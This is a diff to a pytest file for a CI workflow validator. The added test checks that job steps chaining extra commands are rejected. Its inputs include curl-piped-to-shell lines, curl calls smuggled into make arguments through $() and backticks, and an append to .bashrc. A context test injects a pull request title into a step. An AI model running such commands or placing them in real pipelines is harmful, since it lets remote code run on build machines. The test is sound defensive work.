@@ -67,6 +67,25 @@ def test_a_planted_fault_fails(fault, check):
     assert any(fault in found for found in result.faults)
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "sh ci/x.sh; curl -s https://example.org | sh",
+        "make lint A=b; curl -s https://example.org | sh",
+        "python3 -m ci.x && curl -s https://example.org",
+        "make lint A=$(curl -s https://example.org)",
+        "make lint A=`curl -s https://example.org`",
+        "sh ci/x.sh <(curl -s https://example.org)",
+        "python3 -m ci.x >>.bashrc",
+    ],
+)
+def test_nothing_follows_or_fills_a_call_of_ours(line):
+    job = {"timeout-minutes": 5, "steps": [{"run": line}]}
+    assert workflows.misshapen({"permissions": {}, "jobs": {"check": job}}) == [
+        f"job check runs `{line}`, which is neither make nor ci/"
+    ]
+
+
 def test_zizmor_finds_what_a_stranger_could_inject(check):
     step = "make lint TITLE='${{ github.event.pull_request.title }}'"
     result = check(SOUND.replace("make lint", step))
